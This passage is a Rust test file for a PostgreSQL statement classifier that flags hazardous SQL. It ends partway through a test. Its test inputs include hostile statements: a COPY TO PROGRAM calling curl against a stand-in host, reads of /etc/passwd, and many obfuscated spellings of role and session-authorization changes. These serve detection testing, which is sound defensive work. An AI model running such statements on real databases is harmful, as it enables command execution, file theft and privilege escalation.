//! Table-driven tests of classification through the public API, hostile spellings included.

use crate::{Analysis, Classifier, Hazard, StatementKind};

fn analyze(sql: &str) -> Analysis {
    let analysis = Classifier::new(0).analyze(sql);
    assert_eq!(analysis.parse_error, None, "{sql}");
    (*analysis).clone()
}

fn hazards(sql: &str) -> Vec<Hazard> {
    analyze(sql).hazards().cloned().collect()
}

fn set_config(setting: Option<&str>) -> Hazard {
    Hazard::SetConfig {
        setting: setting.map(str::to_owned),
    }
}

fn defines(what: &str) -> Hazard {
    Hazard::FunctionDefinition {
        what: what.to_owned(),
    }
}

fn runs(function: &str) -> Hazard {
    Hazard::RunsSqlText {
        function: function.to_owned(),
    }
}

#[test]
fn kinds_and_commands() {
    use StatementKind::{Admin, Dcl, Ddl, Raw, Read, Session, Transaction, Write};
    let cases = [
        ("SELECT 1", Read, "SELECT"),
        ("select * from t where a = $1", Read, "SELECT"),
        ("VALUES (1), (2)", Read, "SELECT"),
        ("TABLE t", Read, "SELECT"),
        ("SHOW search_path", Read, "SHOW"),
        ("EXPLAIN SELECT 1", Read, "EXPLAIN"),
        ("EXPLAIN DELETE FROM t", Read, "EXPLAIN"),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", Read, "EXPLAIN"),
        (
            "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
            Read,
            "EXPLAIN",
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN (ANALYZE true) DELETE FROM t", Write, "EXPLAIN"),
        ("EXPLAIN SELECT pg_terminate_backend(1)", Read, "EXPLAIN"),
        (
            "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
            Admin,
            "EXPLAIN",
        ),
        ("COPY t TO STDOUT", Read, "COPY"),
        ("COPY (SELECT * FROM t) TO STDOUT", Read, "COPY"),
        ("COPY t FROM STDIN", Write, "COPY"),
        ("COPY t FROM '/etc/passwd'", Admin, "COPY"),
        ("COPY t TO PROGRAM 'curl evil'", Admin, "COPY"),
        ("INSERT INTO t VALUES (1)", Write, "INSERT"),
        ("UPDATE t SET a = 1", Write, "UPDATE"),
        ("DELETE FROM t", Write, "DELETE"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Write,
            "MERGE",
        ),
        ("SELECT * FROM t FOR UPDATE", Write, "SELECT"),
        ("SELECT * FROM t FOR SHARE SKIP LOCKED", Write, "SELECT"),
        (
            "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
            Write,
            "SELECT",
        ),
        ("SELECT nextval('s')", Write, "SELECT"),
        ("SELECT pg_catalog.setval('s', 1)", Write, "SELECT"),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Write,
            "SELECT",
        ),
        (
            "SELECT * FROM t WHERE id IN (WITH x AS (INSERT INTO u VALUES (1) RETURNING id) SELECT id FROM x)",
            Write,
            "SELECT",
        ),
        ("SELECT * INTO new_t FROM t", Ddl, "SELECT INTO"),
        ("CREATE TABLE t2 AS SELECT * FROM t", Ddl, "CREATE TABLE AS"),
        ("CREATE TABLE t (id int)", Ddl, "CREATE TABLE"),
        ("ALTER TABLE t ADD COLUMN b int", Ddl, "ALTER TABLE"),
        ("ALTER TABLE t RENAME COLUMN a TO b", Ddl, "ALTER TABLE"),
        ("DROP TABLE t", Ddl, "DROP TABLE"),
        ("DROP VIEW IF EXISTS v", Ddl, "DROP VIEW"),
        ("TRUNCATE t", Ddl, "TRUNCATE TABLE"),
        ("COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT"),
        ("CREATE INDEX ON t (a)", Ddl, "CREATE INDEX"),
        ("CREATE VIEW v AS SELECT 1", Ddl, "CREATE VIEW"),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            Ddl,
            "CREATE FUNCTION",
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS ''",
            Ddl,
            "CREATE PROCEDURE",
        ),
        (
            "CREATE AGGREGATE a (int) (sfunc = f, stype = int)",
            Ddl,
            "CREATE AGGREGATE",
        ),
        ("GRANT SELECT ON t TO reader", Dcl, "GRANT"),
        ("REVOKE SELECT ON t FROM reader", Dcl, "REVOKE"),
        ("GRANT admin TO reader", Dcl, "GRANT ROLE"),
        ("CREATE ROLE r", Dcl, "CREATE ROLE"),
        ("ALTER USER r PASSWORD 'x'", Dcl, "ALTER ROLE"),
        ("ALTER ROLE r RENAME TO s", Dcl, "ALTER ROLE"),
        ("DROP ROLE r", Dcl, "DROP ROLE"),
        ("ALTER SYSTEM SET work_mem = '1GB'", Admin, "ALTER SYSTEM"),
        ("CREATE EXTENSION dblink", Admin, "CREATE EXTENSION"),
        ("DROP EXTENSION dblink", Admin, "DROP EXTENSION"),
        ("VACUUM t", Admin, "VACUUM"),
        ("ANALYZE t", Admin, "ANALYZE"),
        ("CHECKPOINT", Admin, "CHECKPOINT"),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Admin, "LOCK TABLE"),
        ("SELECT pg_terminate_backend(42)", Admin, "SELECT"),
        ("SELECT pg_catalog.pg_cancel_backend(42)", Admin, "SELECT"),
        ("SELECT pg_reload_conf()", Admin, "SELECT"),
        ("SELECT pg_read_file('/etc/passwd')", Admin, "SELECT"),
        ("SELECT lo_import('/etc/passwd')", Admin, "SELECT"),
        ("SELECT lo_export(1, '/tmp/x')", Admin, "SELECT"),
        (
            "SELECT * FROM dblink('db', 'select 1') AS t(a int)",
            Admin,
            "SELECT",
        ),
        (
            "SELECT query_to_xml('select 1', true, true, '')",
            Raw,
            "SELECT",
        ),
        ("SET search_path = public", Session, "SET"),
        ("RESET work_mem", Session, "RESET"),
        (
            "SELECT set_config('search_path', 'public', false)",
            Session,
            "SELECT",
        ),
        ("DISCARD PLANS", Session, "DISCARD"),
        ("LISTEN ch", Session, "LISTEN"),
        ("NOTIFY ch, 'x'", Session, "NOTIFY"),
        ("UNLISTEN *", Session, "UNLISTEN"),
        ("PREPARE p AS SELECT 1", Session, "PREPARE"),
        ("PREPARE p AS DELETE FROM t", Write, "PREPARE"),
        ("EXECUTE p(1)", Session, "EXECUTE"),
        ("DEALLOCATE ALL", Session, "DEALLOCATE"),
        ("DECLARE c CURSOR FOR SELECT 1", Session, "DECLARE CURSOR"),
        (
            "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
            Write,
            "DECLARE CURSOR",
        ),
        ("FETCH 10 FROM c", Session, "FETCH"),
        ("CLOSE c", Session, "CLOSE CURSOR"),
        ("BEGIN", Transaction, "BEGIN"),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            Transaction,
            "START TRANSACTION",
        ),
        ("COMMIT", Transaction, "COMMIT"),
        ("ROLLBACK", Transaction, "ROLLBACK"),
        ("SAVEPOINT s", Transaction, "SAVEPOINT"),
        ("RELEASE SAVEPOINT s", Transaction, "RELEASE"),
        ("ROLLBACK TO SAVEPOINT s", Transaction, "ROLLBACK"),
        (
            "PREPARE TRANSACTION 'x'",
            Transaction,
            "PREPARE TRANSACTION",
        ),
        ("COMMIT PREPARED 'x'", Admin, "COMMIT PREPARED"),
        ("DO $$ BEGIN END $$", Raw, "DO"),
        ("CALL p(1)", Write, "CALL"),
        (
            "REFRESH MATERIALIZED VIEW mv",
            Write,
            "REFRESH MATERIALIZED VIEW",
        ),
    ];
    for (sql, kind, command) in cases {
        let analysis = analyze(sql);
        assert_eq!(analysis.statements.len(), 1, "{sql}");
        let facts = &analysis.statements[0];
        assert_eq!(
            (facts.kind, facts.command.as_str()),
            (kind, command),
            "{sql}"
        );
        assert_eq!(analysis.kind(), kind, "{sql}");
    }
}

#[test]
fn hazards_in_every_spelling_and_position() {
    let cases: Vec<(&str, Vec<Hazard>)> = vec![
        // Role changes.
        ("SET ROLE admin", vec![Hazard::RoleChange]),
        ("set role none", vec![Hazard::RoleChange]),
        ("SET SESSION ROLE admin", vec![Hazard::RoleChange]),
        ("SET LOCAL ROLE admin", vec![Hazard::RoleChange]),
        ("RESET ROLE", vec![Hazard::RoleChange]),
        ("SET role TO 'admin'", vec![Hazard::RoleChange]),
        ("SET \"role\" = admin", vec![Hazard::RoleChange]),
        ("SET \"ROLE\" TO admin", vec![Hazard::RoleChange]),
        ("SET role TO DEFAULT", vec![Hazard::RoleChange]),
        (
            "ALTER ROLE me SET role = admin",
            vec![Hazard::AlterRole, Hazard::RoleChange],
        ),
        (
            "ALTER DATABASE d SET role = admin",
            vec![Hazard::RoleChange],
        ),
        (
            "CREATE FUNCTION f() RETURNS int SET role = admin LANGUAGE sql AS 'select 1'",
            vec![defines("CREATE FUNCTION"), Hazard::RoleChange],
        ),
        // Session authorization.
        (
            "SET SESSION AUTHORIZATION admin",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET SESSION AUTHORIZATION DEFAULT",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "RESET SESSION AUTHORIZATION",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET session_authorization = admin",
            vec![Hazard::SessionAuthorization],
        ),
        (
            "SET \"Session_Authorization\" TO admin",
            vec![Hazard::SessionAuthorization],
        ),
        // RESET ALL / DISCARD ALL.
        ("RESET ALL", vec![Hazard::ResetAll]),
        ("ALTER ROLE me RESET ALL", vec![Hazard::AlterRole]),
        ("ALTER DATABASE d RESET ALL", vec![]),
        ("DISCARD ALL", vec![Hazard::DiscardAll]),
        ("DISCARD PLANS", vec![]),
        ("DISCARD SEQUENCES", vec![]),
        ("DISCARD TEMP", vec![]),
        // postern.* settings.
        (
            "SET postern.claims = '{}'",
            vec![Hazard::PosternSetting {
                name: "postern.claims".into(),
            }],
        ),
        (
            "SET LOCAL \"Postern\".\"Claims\" TO 'x'",
            vec![Hazard::PosternSetting {
                name: "postern.claims".into(),
            }],
        ),
        (
            "RESET POSTERN.anything",
            vec![Hazard::PosternSetting {
                name: "postern.anything".into(),
            }],
        ),
        ("SET posternx.y = 1", vec![]),
        // set_config in every spelling and position.
        (
            "SELECT set_config('role', 'admin', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT pg_catalog.set_config('ROLE', 'admin', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT \"pg_catalog\".\"set_config\"('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT SET_CONFIG('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(E'\\x72ole', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(U&'\\0072ole', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config($$role$$, 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config(new_value => 'x', setting_name => 'role', is_local => false)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT set_config('ro'||'le', 'x', false)",
            vec![set_config(None)],
        ),
        ("SELECT set_config($1, 'x', false)", vec![set_config(None)]),
        (
            "SELECT set_config('role'::text, 'x', false)",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config(lower('ROLE'), 'x', false)",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM t",
            vec![set_config(None)],
        ),
        (
            "SELECT set_config('postern.claims', 'x', false)",
            vec![set_config(Some("postern.claims"))],
        ),
        (
            "SELECT set_config('application_name', 'x', false)",
            vec![set_config(Some("application_name"))],
        ),
        (
            "SELECT * FROM set_config('role', 'x', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "WITH x AS (SELECT set_config('role', 'a', false)) SELECT * FROM x",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t WHERE a = (SELECT set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM (SELECT * FROM (SELECT set_config('role', 'a', false)) a) b",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT CASE WHEN true THEN set_config('role', 'a', true) END",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT count(*) FILTER (WHERE set_config('role', 'a', true) IS NULL) FROM t",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t ORDER BY set_config('role', 'a', true)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t JOIN u ON set_config('role', 'a', true) IS NOT NULL",
            vec![set_config(Some("role"))],
        ),
        (
            "INSERT INTO t VALUES (set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "UPDATE t SET a = 1 RETURNING set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "DECLARE c CURSOR FOR SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "COPY (SELECT set_config('role', 'a', false)) TO STDOUT",
            vec![set_config(Some("role"))],
        ),
        (
            "EXPLAIN ANALYZE SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "EXPLAIN SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "PREPARE p AS SELECT set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO ALSO SELECT set_config('role', 'a', false)",
            vec![defines("CREATE RULE"), set_config(Some("role"))],
        ),
        (
            "SELECT array_agg(x ORDER BY set_config('role', 'a', false)) FROM t",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t WINDOW w AS (PARTITION BY set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t LIMIT (SELECT length(set_config('role', 'a', false)))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM t GROUP BY ROLLUP (set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT * FROM xmltable('/a' PASSING (set_config('role', 'a', false)::xml) COLUMNS a int)",
            vec![set_config(Some("role"))],
        ),
        (
            "SELECT json_object('k': set_config('role', 'a', false))",
            vec![set_config(Some("role"))],
        ),
        (
            "MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = set_config('role', 'a', false)",
            vec![set_config(Some("role"))],
        ),
        // standard_conforming_strings.
        (
            "SET standard_conforming_strings = off",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings TO false",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings = 0",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET standard_conforming_strings = 'off'",
            vec![Hazard::StandardConformingStringsOff],
        ),
        (
            "SET LOCAL \"STANDARD_CONFORMING_STRINGS\" = no",
            vec![Hazard::StandardConformingStringsOff],
        ),
        ("SET standard_conforming_strings = on", vec![]),
        ("SET standard_conforming_strings = 'true'", vec![]),
        ("SET standard_conforming_strings TO DEFAULT", vec![]),
        ("RESET standard_conforming_strings", vec![]),
        (
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            vec![
                Hazard::StandardConformingStringsOff,
                set_config(Some("standard_conforming_strings")),
            ],
        ),
        (
            "SELECT set_config('standard_conforming_strings', $1, false)",
            vec![
                Hazard::StandardConformingStringsOff,
                set_config(Some("standard_conforming_strings")),
            ],
        ),
        (
            "SELECT set_config('standard_conforming_strings', 'on', false)",
            vec![set_config(Some("standard_conforming_strings"))],
        ),
        (
            "ALTER ROLE me SET standard_conforming_strings = off",
            vec![Hazard::AlterRole, Hazard::StandardConformingStringsOff],
        ),
        // pg_settings.
        (
            "UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "update pg_catalog.pg_settings set setting = 'off'",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "WITH u AS (UPDATE pg_settings SET setting = 'x' RETURNING 1) SELECT * FROM u",
            vec![Hazard::PgSettingsWrite],
        ),
        (
            "INSERT INTO pg_settings (name) VALUES ('x')",
            vec![Hazard::PgSettingsWrite],
        ),
        ("SELECT * FROM pg_settings", vec![]),
        // client_encoding.
        (
            "SET client_encoding = 'SJIS'",
            vec![Hazard::ClientEncoding {
                name: "SJIS".into(),
            }],
        ),
        (
            "SET NAMES 'big5'",
            vec![Hazard::ClientEncoding {
                name: "big5".into(),
            }],
        ),
        (
            "SET client_encoding TO Shift_JIS_2004",
            vec![Hazard::ClientEncoding {
                name: "shift_jis_2004".into(),
            }],
        ),
        ("SET client_encoding = 'UTF8'", vec![]),
        ("SET NAMES 'latin1'", vec![]),
        ("SET client_encoding TO DEFAULT", vec![]),
        (
            "SELECT set_config('client_encoding', 'GBK', false)",
            vec![
                Hazard::ClientEncoding { name: "GBK".into() },
                set_config(Some("client_encoding")),
            ],
        ),
        // DO, CALL, roles.
        ("DO $$ BEGIN PERFORM 1; END $$", vec![Hazard::DoBlock]),
        ("DO LANGUAGE plpgsql 'BEGIN END'", vec![Hazard::DoBlock]),
        ("CALL p()", vec![Hazard::Call]),
        ("CREATE USER u", vec![Hazard::AlterRole]),
        ("CREATE GROUP g", vec![Hazard::AlterRole]),
        ("ALTER USER u WITH SUPERUSER", vec![Hazard::AlterRole]),
        ("ALTER ROLE u PASSWORD 'x'", vec![Hazard::AlterRole]),
        ("ALTER ROLE u RENAME TO v", vec![Hazard::AlterRole]),
        ("ALTER GROUP g ADD USER u", vec![Hazard::AlterRole]),
        ("DROP USER IF EXISTS u", vec![Hazard::AlterRole]),
        ("GRANT admin TO me", vec![Hazard::AlterRole]),
        ("REVOKE admin FROM me", vec![Hazard::AlterRole]),
        ("GRANT SELECT ON t TO me", vec![]),
        // Definitions of code and stored expressions.
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            vec![defines("CREATE FUNCTION")],
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS ''",
            vec![defines("CREATE PROCEDURE")],
        ),
        (
            "ALTER FUNCTION f() SECURITY DEFINER",
            vec![defines("ALTER FUNCTION")],
        ),
        ("CREATE VIEW v AS SELECT 1", vec![defines("CREATE VIEW")]),
        (
            "CREATE OR REPLACE TEMP VIEW v AS SELECT 1",
            vec![defines("CREATE VIEW")],
        ),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            vec![defines("CREATE MATERIALIZED VIEW")],
        ),
        (
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
            vec![defines("CREATE RULE")],
        ),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            vec![defines("CREATE TRIGGER")],
        ),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
            vec![defines("CREATE EVENT TRIGGER")],
        ),
        ("CREATE DOMAIN d AS int", vec![defines("CREATE DOMAIN")]),
        (
            "CREATE AGGREGATE a (int) (sfunc = f, stype = int)",
            vec![defines("CREATE AGGREGATE")],
        ),
        (
            "CREATE OPERATOR === (function = f, leftarg = int, rightarg = int)",
            vec![defines("CREATE OPERATOR")],
        ),
        (
            "CREATE CAST (int AS text) WITH FUNCTION f(int)",
            vec![defines("CREATE CAST")],
        ),
        (
            "CREATE TABLE t (a int DEFAULT f())",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        (
            "CREATE TABLE t (a int GENERATED ALWAYS AS (f(b)) STORED, b int)",
            vec![defines(
                "a GENERATED column expression that calls a function",
            )],
        ),
        (
            "CREATE TABLE t (a int CHECK (f(a)))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "CREATE TABLE t (a int, CONSTRAINT c CHECK (a > g()))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "CREATE TABLE t (a int DEFAULT 1 CHECK (a > 0), b text DEFAULT 'x')",
            vec![],
        ),
        (
            "ALTER TABLE t ALTER COLUMN a SET DEFAULT f()",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        ("ALTER TABLE t ALTER COLUMN a SET DEFAULT 0", vec![]),
        (
            "ALTER TABLE t ADD COLUMN b int DEFAULT f()",
            vec![defines("a column DEFAULT expression that calls a function")],
        ),
        (
            "ALTER TABLE t ADD COLUMN b int GENERATED ALWAYS AS (f(a)) STORED",
            vec![defines(
                "a GENERATED column expression that calls a function",
            )],
        ),
        (
            "ALTER TABLE t ADD CONSTRAINT c CHECK (f(a))",
            vec![defines("a CHECK constraint that calls a function")],
        ),
        (
            "ALTER TABLE t ALTER COLUMN a TYPE bigint USING f(a)",
            vec![],
        ),
        (
            "CREATE INDEX ON t ((f(a)))",
            vec![defines("an index expression that calls a function")],
        ),
        (
            "CREATE INDEX ON t (a) WHERE f(a)",
            vec![defines("an index predicate that calls a function")],
        ),
        ("CREATE INDEX ON t (a)", vec![]),
        (
            "CREATE POLICY p ON t USING (f(owner))",
            vec![defines(
                "a row-level security policy expression that calls a function",
            )],
        ),
        ("CREATE POLICY p ON t USING (owner = current_user)", vec![]),
        (
            "CREATE TABLE t (a int) PARTITION BY RANGE (f(a))",
            vec![defines("a partition key expression that calls a function")],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT ((lower(a))) DO NOTHING",
            vec![],
        ),
        // Functions that run SQL text.
        (
            "SELECT query_to_xml('select 1', true, true, '')",
            vec![runs("query_to_xml")],
        ),
        (
            "SELECT pg_catalog.QUERY_TO_XML_AND_XMLSCHEMA('select 1', true, true, '')",
            vec![runs("pg_catalog.query_to_xml_and_xmlschema")],
        ),
        (
            "SELECT cursor_to_xml('c', 1, true, true, '')",
            vec![runs("cursor_to_xml")],
        ),
        (
            "SELECT table_to_xml('t', true, true, '')",
            vec![runs("table_to_xml")],
        ),
        (
            "SELECT database_to_xml(true, true, '')",
            vec![runs("database_to_xml")],
        ),
        (
            "SELECT * FROM ts_stat('select v from t')",
            vec![runs("ts_stat")],
        ),
        (
            "SELECT ts_rewrite('a & b'::tsquery, 'select t, s from aliases')",
            vec![runs("ts_rewrite")],
        ),
        (
            "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)",
            vec![],
        ),
        (
            "SELECT * FROM dblink('db', 'select 1') AS t(a int)",
            vec![runs("dblink")],
        ),
        (
            "SELECT dblink_exec('db', 'set role admin')",
            vec![runs("dblink_exec")],
        ),
        (
            "SELECT public.dblink_open('c', 'select 1')",
            vec![runs("public.dblink_open")],
        ),
        (
            "SELECT cron.schedule('* * * * *', 'select 1')",
            vec![runs("cron.schedule")],
        ),
        (
            "SELECT * FROM t WHERE EXISTS (SELECT query_to_xml($1, true, true, ''))",
            vec![runs("query_to_xml")],
        ),
        // Nothing to see.
        ("SELECT current_setting('role')", vec![]),
        ("SHOW role", vec![]),
        (
            "SET search_path = public, pg_catalog",
            vec![Hazard::SearchPath {
                schemas: Some(vec!["public".into(), "pg_catalog".into()]),
            }],
        ),
        (
            "RESET search_path",
            vec![Hazard::SearchPath {
                schemas: Some(vec![]),
            }],
        ),
        (
            "SELECT set_config('search_path', 'Archive, \"Mixed\"', false)",
            vec![
                Hazard::SearchPath {
                    schemas: Some(vec!["archive".into(), "Mixed".into()]),
                },
                Hazard::SetConfig {
                    setting: Some("search_path".into()),
                },
            ],
        ),
        (
            "SELECT set_config('search_path', current_user, false)",
            vec![
                Hazard::SearchPath { schemas: None },
                Hazard::SetConfig {
                    setting: Some("search_path".into()),
                },
            ],
        ),
        ("SET application_name = 'x'", vec![]),
    ];
    let failures: Vec<String> = cases
        .into_iter()
        .filter_map(|(sql, want)| {
            let got = hazards(sql);
            (got != want).then(|| format!("{sql}\n   got  {got:?}\n   want {want:?}"))
        })
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn multi_statement_text_is_classified_per_statement() {
    let analysis = analyze("SELECT 1; SELECT set_config('role', 'admin', false); COMMIT");
    assert_eq!(analysis.statements.len(), 3);
    assert!(analysis.statements[0].hazards.is_empty());
    assert_eq!(
        analysis.statements[1].hazards,
        vec![set_config(Some("role"))]
    );
    assert_eq!(analysis.statements[2].kind, StatementKind::Transaction);
    assert_eq!(analysis.kind(), StatementKind::Session);
    assert_eq!(
        analysis.hazards().collect::<Vec<_>>(),
        vec![&set_config(Some("role"))]
    );

    let analysis = analyze("BEGIN; DELETE FROM t; SET ROLE admin; COMMIT;");
    let kinds: Vec<_> = analysis.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Transaction,
            StatementKind::Write,
            StatementKind::Session,
            StatementKind::Transaction
        ]
    );
    assert_eq!(analysis.statements[2].hazards, vec![Hazard::RoleChange]);
    assert_eq!(analysis.kind(), StatementKind::Write);
}

#[test]
fn tables_and_functions() {
    let analysis = analyze(
        "WITH recent AS (SELECT * FROM app.orders WHERE at > now()) \
         SELECT count(*), Lower(c.name), pg_catalog.upper(c.name) \
         FROM recent JOIN customers c ON c.id = recent.customer_id \
         WHERE c.id IN (SELECT customer_id FROM db.billing.invoices)",
    );
    let facts = &analysis.statements[0];
    let mut tables = facts.tables.clone();
    tables.sort();
    assert_eq!(tables, ["app.orders", "customers", "db.billing.invoices"]);
    let mut functions = facts.functions.clone();
    functions.sort();
    assert_eq!(functions, ["count", "lower", "now", "pg_catalog.upper"]);

    // A non-recursive CTE does not see itself: the inner `secrets` is the table.
    let facts =
        &analyze("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets").statements[0];
    assert_eq!(facts.tables, ["secrets"]);
    // A recursive one does.
    let facts =
        &analyze("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r")
            .statements[0];
    assert!(facts.tables.is_empty());
    // Later CTEs see earlier ones, but a CTE's scope ends with its statement.
    let facts = &analyze(
        "SELECT * FROM (WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b) s, a",
    )
    .statements[0];
    assert_eq!(facts.tables, ["a"]);
    // The target of a data-modifying statement is always a table, even if a CTE shares its name.
    let facts = &analyze("WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t").statements[0];
    assert_eq!(facts.tables, ["t"]);
    // Tables in DDL, DML targets, COPY, LOCK.
    let facts = &analyze("INSERT INTO audit.log SELECT * FROM staging").statements[0];
    assert_eq!(facts.tables, ["audit.log", "staging"]);
    let facts = &analyze("LOCK TABLE a, b.c").statements[0];
    assert_eq!(facts.tables, ["a", "b.c"]);
    // Relations that DROP, COMMENT and SECURITY LABEL name as lists of names; for objects
    // that live on a table, that table.
    for (sql, tables) in [
        ("DROP TABLE a, s.b, db.s.c", &["a", "s.b", "db.s.c"][..]),
        ("DROP VIEW IF EXISTS v CASCADE", &["v"]),
        ("DROP MATERIALIZED VIEW s.m", &["s.m"]),
        ("DROP SEQUENCE q", &["q"]),
        ("DROP FOREIGN TABLE f", &["f"]),
        ("DROP INDEX CONCURRENTLY s.i", &["s.i"]),
        ("DROP TRIGGER t ON s.orders", &["s.orders"]),
        ("DROP RULE r ON orders", &["orders"]),
        ("DROP POLICY p ON \"Orders\"", &["Orders"]),
        ("COMMENT ON TABLE orders IS 'x'", &["orders"]),
        ("COMMENT ON COLUMN s.orders.amount IS 'x'", &["s.orders"]),
        ("COMMENT ON CONSTRAINT c ON orders IS NULL", &["orders"]),
        ("COMMENT ON TRIGGER t ON orders IS 'x'", &["orders"]),
        ("SECURITY LABEL FOR p ON TABLE orders IS 'x'", &["orders"]),
        (
            "SECURITY LABEL FOR p ON COLUMN orders.amount IS 'x'",
            &["orders"],
        ),
        ("DROP FUNCTION f(int)", &[]),
        ("DROP SCHEMA s", &[]),
        ("DROP TYPE t", &[]),
        ("COMMENT ON SCHEMA s IS 'x'", &[]),
        ("COMMENT ON FUNCTION f() IS 'x'", &[]),
    ] {
        assert_eq!(analyze(sql).statements[0].tables, tables, "{sql}");
    }
    let facts = &analyze("CALL app.do_things(1)").statements[0];
    assert_eq!(facts.functions, ["app.do_things"]);
}

#[test]
fn unparseable_text_is_a_parse_error() {
    let classifier = Classifier::new(8);
    for sql in [
        "garbage",
        "SELECT FROM WHERE",
        "SELECT 'unterminated",
        "SELECT 1; SELEC 2",
        "SET ROLE",
        "SELECT 1\0",
    ] {
        let analysis = classifier.analyze(sql);
        assert!(analysis.parse_error.is_some(), "{sql}");
        assert!(analysis.statements.is_empty(), "{sql}");
        assert_eq!(analysis.kind(), StatementKind::Raw, "{sql}");
    }
    assert_eq!(
        classifier.analyze("garbage").parse_error.as_deref(),
        Some("syntax error at or near \"garbage\"")
    );
}

#[test]
fn empty_text_has_no_statements() {
    for sql in ["", "  ", ";", " ; ; ", "-- just a comment", "/* c */"] {
        let analysis = analyze(sql);
        assert!(analysis.statements.is_empty(), "{sql:?}");
        assert_eq!(analysis.kind(), StatementKind::Read);
    }
}

#[test]
fn fingerprint_groups_texts_that_differ_in_constants() {
    let a = analyze("SELECT * FROM t WHERE id = 1");
    let b = analyze("select *  from t where id = 42");
    assert!(a.fingerprint.is_some());
    assert_eq!(a.fingerprint, b.fingerprint);
    assert_ne!(
        a.fingerprint,
        analyze("SELECT * FROM u WHERE id = 1").fingerprint
    );
}

#[test]
fn prepared_statement_and_cursor_names() {
    use crate::PreparedName;
    let named = |sql: &str| analyze(sql).statements[0].prepared.clone();
    assert_eq!(
        named("PREPARE \"Q1\" AS SELECT 1"),
        Some(PreparedName::Prepare("Q1".into()))
    );
    assert_eq!(
        named("EXECUTE q1(1)"),
        Some(PreparedName::Execute("q1".into()))
    );
    assert_eq!(
        named("DEALLOCATE ALL"),
        Some(PreparedName::Deallocate(None))
    );
    assert_eq!(
